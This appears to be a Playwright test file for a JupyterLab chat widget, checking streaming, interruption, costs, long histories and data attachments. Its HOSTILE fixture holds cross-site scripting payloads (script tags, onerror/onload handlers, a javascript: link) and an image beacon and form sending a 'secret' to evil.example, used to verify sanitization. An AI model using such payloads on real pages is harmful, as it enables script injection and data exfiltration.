"""The chat box and chat.ask() in a real JupyterLab, with an upstream whose pace the test decides."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.browser.attacks import ATTACKS
from tests.browser.lab import SECONDS, Notebook
from tests.faults.upstream import ScriptedUpstream, Usage, reply, words

if TYPE_CHECKING:
    from playwright.sync_api import Locator


def show_chat(notebook: Notebook, more: str = "") -> Locator:
    """Show the box of a new chat, and wait until it and Python know each other."""
    notebook.run(f"chat = wb.Chat()\nbox = chat.widget()\ndisplay(box)\n{more}")
    box = notebook.page.locator(".wb-chat")
    box.locator(".wb-title", has_text="New chat").wait_for()
    return box


def send(box: Locator, text: str) -> None:
    box.locator(".wb-input").fill(text)
    box.locator(".wb-input").press("Enter")


def last_reply(box: Locator, status: str) -> Locator:
    """Wait for a last reply of this status."""
    reply = box.locator(f".wb-message[data-role=assistant][data-status={status}]").last
    reply.wait_for()
    return reply


def statuses(notebook: Notebook) -> str:
    return notebook.value("[(m.status, m.content) for m in chat.messages]")


# --- The chat box -----------------------------------------------------------------------------------------------


def test_a_reply_streams_and_ends_with_its_footer_and_the_cost_of_the_chat(
    notebook: Notebook, lab_upstream: ScriptedUpstream
) -> None:
    usage = Usage(uncached_input_tokens=1000, output_tokens=50)
    lab_upstream.script(reply("It is **four**, I think.", usage=usage, pause_after=3))
    box = show_chat(notebook)
    send(box, "What is 2+2?")
    streaming = last_reply(box, "streaming")
    streaming.get_by_text("It is four,").wait_for()
    assert box.locator(".wb-stop").is_visible()
    lab_upstream.release()
    done = last_reply(box, "complete")

    assert done.locator(".wb-body").inner_text() == "It is four, I think."
    footer = "claude-sonnet-5-5 · 1,000 in + 50 out tokens · $0.0025 · "
    assert done.locator(".wb-footer").inner_text().startswith(footer)
    assert box.locator(".wb-cost").inner_text() == "$0.0025"
    assert box.locator(".wb-send").is_visible()
    assert notebook.value("wb.Chat.open(chat.id).messages[1].content") == "'It is **four**, I think.'"


def test_stop_works_while_another_cell_runs(notebook: Notebook, lab_upstream: ScriptedUpstream) -> None:
    lab_upstream.script(reply("one two three", pause_after=1))
    box = show_chat(notebook)
    send(box, "count")
    last_reply(box, "streaming").get_by_text("one").wait_for()
    notebook.run(f"import time; time.sleep({SECONDS * 2})")
    notebook.page.locator(".jp-InputPrompt", has_text="[*]:").wait_for()
    box.locator(".wb-stop").click()
    last_reply(box, "interrupted")
    lab_upstream.wait_for(lambda u: u.disconnects, SECONDS)

    assert notebook.running
    notebook.settle()
    assert statuses(notebook) == "[('complete', 'count'), ('interrupted', 'one')]"


def test_a_message_is_answered_while_the_cell_that_shows_the_box_runs(notebook: Notebook) -> None:
    box = show_chat(notebook, f"import time; time.sleep({SECONDS * 2})")
    send(box, "anybody there?")
    done = last_reply(box, "complete")
    send(box, "and again?")
    box.locator(".wb-message[data-status=complete][data-role=assistant]").nth(1).wait_for()

    assert done.locator(".wb-footer").inner_text() != ""
    assert notebook.running


def test_a_page_reloaded_in_the_middle_of_a_reply_goes_on_with_it(
    notebook: Notebook, lab_upstream: ScriptedUpstream
) -> None:
    lab_upstream.script(reply(words(40), delay=0.01, pause_after=20))
    box = show_chat(notebook)
    send(box, "go")
    last_reply(box, "streaming").get_by_text("tango").wait_for()
    notebook.save_and_reload()
    last_reply(box, "streaming").get_by_text("tango").wait_for()
    lab_upstream.release()

    assert last_reply(box, "complete").locator(".wb-body").inner_text() == words(40)
    assert box.locator(".wb-message").count() == 2


HOSTILE = """Look: <script>window.__pwn = 1</script> <img src=x onerror="window.__pwn = 2">

![beacon](https://evil.example/?q=secret) [click](javascript:window.__pwn=3)

<form action="https://evil.example/"><input name=q></form>

<iframe srcdoc="<script>parent.__pwn = 4</script>"></iframe>

<svg onload="window.__pwn = 5"></svg> and that was all.
"""


def assert_harmless(notebook: Notebook, place: Locator) -> None:
    assert place.locator("script, img, form, input, iframe, svg:not([data-icon] svg), [onerror], [onload]").count() == 0
    for link in place.locator("a").all():
        assert (link.get_attribute("href") or "").startswith(("https://", "http://", "mailto:"))
    assert notebook.page.evaluate("window.__pwn") is None
    assert notebook.requested == []


def test_a_hostile_reply_runs_nothing_and_requests_nothing(notebook: Notebook, lab_upstream: ScriptedUpstream) -> None:
    lab_upstream.script(reply([HOSTILE[:30], HOSTILE[30:]]))
    box = show_chat(notebook)
    send(box, "attack")
    body = last_reply(box, "complete").locator(".wb-body")
    body.get_by_text("and that was all.").wait_for()

    assert_harmless(notebook, body)


ANSWERED = """
(question) => {
  const [asked, answer] = [...document.querySelectorAll(".wb-message")].slice(-2);
  return answer?.dataset.status === "complete" && asked.querySelector(".wb-body").textContent === question;
}
"""


def test_no_known_attack_runs_requests_or_leaves_its_box(notebook: Notebook, lab_upstream: ScriptedUpstream) -> None:
    outside = "JSON.stringify([...getComputedStyle(document.body)].map((key) => getComputedStyle(document.body)[key]))"
    lab_upstream.script(*(reply([*attack, "\n\nand that was all."]) for attack in ATTACKS.values()))
    box = show_chat(notebook)
    before = notebook.page.evaluate(outside)
    for name in ATTACKS:
        send(box, name)
        notebook.page.wait_for_function(ANSWERED, arg=name)
        assert_harmless(notebook, box.locator(".wb-body").last)

    assert notebook.page.evaluate(outside) == before
    lifted = "all => all.filter((e) => !['static', 'relative'].includes(getComputedStyle(e).position)).map((e) => e.outerHTML)"
    assert box.locator(".wb-md *").evaluate_all(lifted) == []
    assert notebook.value("len(chat.messages)") == str(2 * len(ATTACKS))


def test_formulas_are_drawn_by_what_the_kernel_sends(notebook: Notebook, lab_upstream: ScriptedUpstream) -> None:
    lab_upstream.script(reply("It is $x^2$, for $5."))
    box = show_chat(notebook)
    send(box, "formula")
    box.locator(".wb-math msup").wait_for()

    assert " ".join(last_reply(box, "complete").locator(".wb-body").inner_text().split()).endswith(", for $5.")
    assert notebook.requested == []


def test_what_is_kept_in_the_notebook_is_harmless_where_it_is_shown(
    notebook: Notebook, lab_upstream: ScriptedUpstream
) -> None:
    lab_upstream.script(reply([HOSTILE]))
    show_chat(notebook)
    notebook.outputs(notebook.run("chat.ask('attack', show=False)\nsaved = box._repr_mimebundle_()[0]"))
    notebook.outputs(notebook.run("display({'text/markdown': saved['text/markdown']}, raw=True)"))
    output = notebook.page.locator(".jp-OutputArea-output.jp-RenderedMarkdown").last
    output.get_by_text("and that was all.").wait_for()

    assert_harmless(notebook, output)
    assert output.locator("strong").all_inner_texts() == ["You", "Claude"]


def test_a_chat_of_10000_messages_opens_at_its_end_and_is_read_to_its_beginning(notebook: Notebook) -> None:
    notebook.outputs(notebook.run(WRITE_10000))
    notebook.run("chat.widget()")
    box = notebook.page.locator(".wb-chat")
    box.get_by_text("message 10000", exact=True).wait_for()
    assert box.locator("article").count() <= 80

    first = notebook.page.evaluate(
        """async () => {
          const log = document.querySelector(".wb-log");
          const first = () => document.querySelector("article .wb-body").textContent;
          let most = 0;
          for (let n = 0; n < 6000 && first() !== "the first"; n++) {
            log.scrollTop = 0;
            await new Promise(requestAnimationFrame);
            most = Math.max(most, document.querySelectorAll("article").length);
          }
          return [first(), most];
        }"""
    )
    assert first[0] == "the first"
    assert first[1] <= 80


WRITE_10000 = """
from datetime import UTC, datetime
from workbench.runtime import runtime
from workbench.store.backend import Statement
chat = wb.Chat()
chat.ask("the first", show=False)
r = runtime()
r.run(r.engine.store.backend.write([Statement('''
    INSERT INTO messages (id, chat_id, org_id, seq, role, content, blocks, status, created_at)
    SELECT $1 || i, $1, org_id, i, CASE WHEN i % 2 = 1 THEN 'user' ELSE 'assistant' END, 'message ' || i, '[]',
    'complete', $2 FROM range(3, 10001) made(i), chats WHERE id = $1''', (chat.id, datetime.now(UTC)))]))
"""


def test_the_usage_panel_shows_what_was_spent_and_filters_it(
    notebook: Notebook, lab_upstream: ScriptedUpstream
) -> None:
    lab_upstream.script(reply("ok", usage=Usage(uncached_input_tokens=1000, output_tokens=50)))
    notebook.run("wb.Chat().ask('what is this?', show=False, model='claude-opus-4-6')\nwb.UsagePanel()")
    table = notebook.page.locator("table.wb-usage")
    table.get_by_text("claude-opus-4-6").wait_for()
    picture = notebook.page.locator(".jp-OutputArea img[alt*=' of it for ']")
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") > 500

    notebook.page.get_by_label("model", exact=True).select_option("claude-opus-4-6")
    notebook.page.locator(".jp-OutputArea", has_text="1 call · 1,000 in + 50 out tokens").first.wait_for()
    table.locator("tbody tr").nth(1).wait_for(state="detached")  # the total may be there before the table
    assert table.locator("tbody tr").count() == 1


# --- chat.ask() in a cell ---------------------------------------------------------------------------------------


def test_ask_streams_into_the_cell_and_shows_its_reply_once(notebook: Notebook, lab_upstream: ScriptedUpstream) -> None:
    lab_upstream.script(reply("It is **four**, I think.", pause_after=3))
    cell = notebook.run("chat = wb.Chat()\nchat.ask('What is 2+2?')")
    output = notebook.page.locator(".jp-Notebook-cell").last.locator(".jp-OutputArea-output")
    output.get_by_text("It is four,").wait_for()
    lab_upstream.release()
    [shown] = notebook.outputs(cell)
    output.filter(has_text="claude-sonnet-5-5 · ").wait_for()  # it is drawn a moment later

    assert shown["output_type"] == "display_data"
    assert "<strong>four</strong>, I think." in "".join(shown["data"]["text/html"])
    assert output.count() == 1
    assert output.inner_text().startswith("It is four, I think.\n\nclaude-sonnet-5-5 · ")


def test_a_hostile_reply_in_a_cell_runs_nothing_and_requests_nothing(
    notebook: Notebook, lab_upstream: ScriptedUpstream
) -> None:
    lab_upstream.script(reply([HOSTILE]))
    notebook.outputs(notebook.run("wb.Chat().ask('attack')"))
    output = notebook.page.locator(".jp-Notebook-cell").last.locator(".jp-OutputArea-output")
    output.get_by_text("and that was all.").wait_for()

    assert_harmless(notebook, output)


def test_interrupting_a_cell_that_asks_keeps_and_records_what_came(
    notebook: Notebook, lab_upstream: ScriptedUpstream
) -> None:
    lab_upstream.script(reply("one two three", pause_after=1))
    cell = notebook.run("chat = wb.Chat()\nchat.ask('count')")
    output = notebook.page.locator(".jp-Notebook-cell").last.locator(".jp-OutputArea-output")
    output.get_by_text("one").wait_for()
    notebook.interrupt()
    outputs = notebook.outputs(cell)

    assert [o.get("ename") for o in outputs] == [None, "KeyboardInterrupt"]
    assert "interrupted · " in "".join(outputs[0]["data"]["text/plain"])
    assert statuses(notebook) == "[('complete', 'count'), ('interrupted', 'one')]"


# --- Last, as it takes the kernel away --------------------------------------------------------------------------


def test_after_a_restart_the_box_says_so_and_the_turn_is_in_the_ledger(
    notebook: Notebook, lab_upstream: ScriptedUpstream
) -> None:
    lab_upstream.script(reply("one two three", pause_after=1))
    box = show_chat(notebook)
    chat_id = notebook.value("chat.id")
    send(box, "count")
    last_reply(box, "streaming").get_by_text("one").wait_for()
    notebook.restart()
    notebook.wait_until_ready()
    box.locator(".wb-stop").click()
    box.locator(".wb-notice", has_text="not connected - run the cell again").wait_for()

    assert box.locator(".wb-input").is_disabled()
    notebook.outputs(notebook.run(f"import workbench as wb; chat = wb.Chat.open({chat_id})"))
    assert statuses(notebook) == "[('complete', 'count'), ('interrupted', 'one')]"


def test_a_table_of_the_notebook_is_chosen_with_at_priced_shown_and_sent(
    notebook: Notebook, lab_upstream: ScriptedUpstream
) -> None:
    lab_upstream.script(reply("North."))
    notebook.outputs(notebook.run("import pandas as pd\ndf = pd.DataFrame({'region': ['north', 'south'] * 500})"))
    box = show_chat(notebook)
    box.locator(".wb-input").press_sequentially("Which region leads in @d")
    box.get_by_role("option", name="df").wait_for()
    box.locator(".wb-input").press("Enter")
    chip = box.locator(".wb-chip[data-kind=ready]")
    chip.wait_for()
    about = chip.locator(".wb-chip-open").inner_text()
    box.locator(".wb-estimate").wait_for()
    estimate = box.locator(".wb-estimate > :first-child").inner_text()
    box.locator(".wb-input").press("Enter")
    last_reply(box, "complete")

    summary = "summary of df: 1,000 rows × 1 column; first 5 rows and statistics of each column"
    assert about.startswith("df · DataFrame · about ") and " tokens · about $0.0" in about
    assert estimate.startswith("about ") and " tokens · about $0.00" in estimate
    attached, question = lab_upstream.requests[0].body["messages"][0]["content"]
    assert attached["text"].startswith(f'<attachment name="df">\n{summary}\n')
    assert "2 different, most often north (500), south (500)" in attached["text"]
    assert question["text"] == "Which region leads in df"
    assert box.locator(".wb-message[data-role=user] .wb-attached").inner_text() == summary
